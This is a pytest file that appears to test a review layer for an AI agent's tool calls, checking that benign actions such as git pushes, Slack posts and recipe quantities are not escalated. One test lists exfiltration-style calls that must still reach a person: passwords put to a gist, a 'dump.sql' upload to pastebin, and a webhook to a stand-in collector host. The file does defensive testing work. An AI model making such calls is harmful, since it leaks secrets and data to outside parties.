"""Benign calls that the reach and money-in-keys rules must not escalate: the service the
person works with is not an outside host, a quantity is not money, a game's points are
not a loyalty balance, an audience the person asked to write to is not a surprise.
The holes these rules close are in test_money_and_reach.py."""

from __future__ import annotations

from typing import Any

import pytest

from handoff.models import Mode

from ._assess import assess_call


def run(tool: str, args: dict[str, Any], instruction: str = "") -> Any:
    return assess_call(tool, args, instruction)


def codes(result: Any) -> set[str]:
    return {t.code for t in result.triggers}


# --- item 1: known services and inbound copies are not outside hosts ------------------------


@pytest.mark.parametrize(
    ("tool", "args", "instruction"),
    [
        (
            "git.push",
            {"remote": "https://github.com/acme/web.git", "branch": "fix-login"},
            "Push my fix-login branch.",
        ),
        (
            "http.put",
            {"url": "https://api.notion.com/v1/pages/abc", "body": {"title": "x"}},
            "Rename my Notion page to x.",
        ),
        (
            "slack.send_webhook",
            {"url": "https://hooks.slack.com/services/T0/B0/xyz", "text": "Build passed"},
            "Post 'Build passed' to our Slack webhook.",
        ),
        (
            "sheets.export_report",
            {"report": "weekly", "destination": "https://docs.google.com/spreadsheets/d/1abc"},
            "Export the weekly report to my Google Sheet.",
        ),
    ],
)
def test_a_service_the_person_works_with_is_not_outside(
    tool: str, args: dict[str, Any], instruction: str
) -> None:
    r = run(tool, args, instruction)
    assert r.mode is Mode.AUTO, codes(r)


@pytest.mark.parametrize(
    ("tool", "args", "instruction"),
    [
        (
            "git.clone",
            {"url": "https://github.com/pallets/flask.git", "path": "./flask"},
            "Clone flask so we can read its source.",
        ),
        (
            "jira.upload_attachment",
            {
                "issue": "PROJ-12",
                "file": "./error.log",
                "url": "https://acme.atlassian.net/rest/api/3/issue/PROJ-12/attachments",
            },
            "Attach error.log to PROJ-12.",
        ),
        (
            "calendar.sync",
            {"url": "https://calendar.google.com/calendar/ical/me/basic.ics"},
            "Sync my Google calendar in.",
        ),
        (
            "stripe.create_webhook_endpoint",
            {"url": "https://myshop.com/webhooks/stripe", "events": ["charge.succeeded"]},
            "Set up the Stripe webhook for our shop.",
        ),
    ],
)
def test_inbound_copies_and_asked_webhooks_are_reviewed_at_most(
    tool: str, args: dict[str, Any], instruction: str
) -> None:
    r = run(tool, args, instruction)
    assert r.mode in (Mode.AUTO, Mode.REVIEW), codes(r)


@pytest.mark.parametrize(
    ("tool", "args", "instruction"),
    [
        # A code host is not an excuse for a payload of secrets.
        (
            "http.put",
            {"url": "https://api.github.com/gists/1", "body": {"passwords": "hunter2"}},
            "",
        ),
        ("files.upload", {"file": "dump.sql", "url": "https://pastebin.com/api"}, "Upload it."),
        (
            "webhooks.create",
            {"url": "https://collector.example-evil.net/x"},
            "Set up the webhook.",
        ),
    ],
)
def test_secrets_drop_sites_and_unknown_hosts_still_go_to_a_person(
    tool: str, args: dict[str, Any], instruction: str
) -> None:
    assert run(tool, args, instruction).mode is not Mode.AUTO


# --- items 3, 4, 18: quantities, scores and named amounts are not money ---------------------


@pytest.mark.parametrize(
    ("tool", "args", "instruction"),
    [
        (
            "recipes.add_ingredient",
            {"recipe_id": 3, "ingredient": "milk", "amount_ml": 250},
            "Add 250 ml milk to recipe 3.",
        ),
        (
            "meds.add_reminder",
            {"med": "ibuprofen", "dose_amount": 200, "time": "08:00"},
            "Remind me to take 200mg ibuprofen at 8.",
        ),
        ("courses.update", {"course_id": "CS101", "credits": 4}, "Change CS101 to 4 credits."),
        ("events.update", {"event_id": 2, "fee": 0}, "Make event 2 free."),
        ("survey.update", {"question": 1, "percents": 50}, ""),
        ("jira.set_story_points", {"issue": "PROJ-12", "points": 5}, "Estimate PROJ-12 at 5."),
        ("game.add_points", {"player": "p1", "points": 150}, ""),
        ("quiz.update_question", {"question_id": 2, "bonus": 5}, "Give question 2 a 5 bonus."),
        (
            "invoices.create",
            {"client": "Acme", "hourly_rate": 120, "hours": 10},
            "Invoice Acme for 10 hours at $120/hour.",
        ),
    ],
)
def test_quantities_and_scores_stay_auto(tool: str, args: dict[str, Any], instruction: str) -> None:
    r = run(tool, args, instruction)
    assert r.mode is Mode.AUTO, codes(r)


@pytest.mark.parametrize(
    ("tool", "args", "instruction"),
    [
        ("garden.log_weather", {"rain_amount": 12}, "Log 12mm of rain today."),
        ("audio.set_levels", {"balance": 0, "volume": 70}, "Center the audio balance."),
        ("classroom.award_points", {"student": "Mia", "points": 2}, "Give Mia 2 points."),
        ("fitness.log_miles", {"date": "2025-01-02", "miles": 5}, "Log my 5 mile run."),
        (
            "zendesk.update_trigger",
            {"trigger_id": 9, "routing": "skills_based"},
            "Switch trigger 9 to skills-based routing.",
        ),
        ("ci.update_config", {"swift": "5.9", "xcode": "15.2"}, "Bump CI to Swift 5.9."),
        (
            "wordpress.approve_all_comments",
            {"post_id": 10},
            "Approve all pending comments on post 10.",
        ),
        ("timesheets.approve_all", {"week": "2025-W01"}, "Approve all timesheets for week 1."),
    ],
)
def test_no_money_read_in_non_money_keys(tool: str, args: dict[str, Any], instruction: str) -> None:
    # Other rules may still review these (an unknown tool, a workflow change).
    assert "action.money" not in codes(run(tool, args, instruction))


@pytest.mark.parametrize(
    ("tool", "args", "instruction"),
    [
        (
            "shopify.create_discount",
            {"code": "SPRING10", "discount_percent": 10},
            "Create a 10% discount code SPRING10.",
        ),
        (
            "jobs.create_posting",
            {"title": "Backend Engineer", "salary": 140000, "location": "Remote"},
            "Post the backend engineer job at $140,000.",
        ),
    ],
)
def test_an_amount_the_person_named_is_reviewed_at_most(
    tool: str, args: dict[str, Any], instruction: str
) -> None:
    r = run(tool, args, instruction)
    assert r.mode in (Mode.AUTO, Mode.REVIEW), codes(r)


# --- items 11, 12: audiences that are not sends; sends and links the person asked for -------


@pytest.mark.parametrize(
    ("tool", "args", "instruction"),
    [
        (
            "analytics.create_report",
            {"segment": "all users", "metric": "retention"},
            "Create a retention report for all users.",
        ),
        ("dashboards.create_chart", {"cohort": "all_users", "metric": "dau"}, "Add a DAU chart."),
    ],
)
def test_an_analytics_segment_is_not_an_audience(
    tool: str, args: dict[str, Any], instruction: str
) -> None:
    r = run(tool, args, instruction)
    assert r.mode is Mode.AUTO, codes(r)


@pytest.mark.parametrize(
    ("tool", "args", "instruction"),
    [
        (
            "slack.post_message",
            {"channel": "#announcements", "text": "Office closed Monday"},
            "Post in #announcements that the office is closed Monday.",
        ),
        (
            "mailchimp.send_campaign",
            {"campaign_id": "oct-newsletter"},
            "Send the October newsletter campaign now.",
        ),
        (
            "s3.generate_presigned_url",
            {"bucket": "reports", "key": "q3.pdf", "expires_in": 3600},
            "Give me a download link for q3.pdf to send to the client.",
        ),
    ],
)
def test_a_send_or_link_the_person_asked_for_is_reviewed_at_most(
    tool: str, args: dict[str, Any], instruction: str
) -> None:
    r = run(tool, args, instruction)
    assert r.mode in (Mode.AUTO, Mode.REVIEW), codes(r)
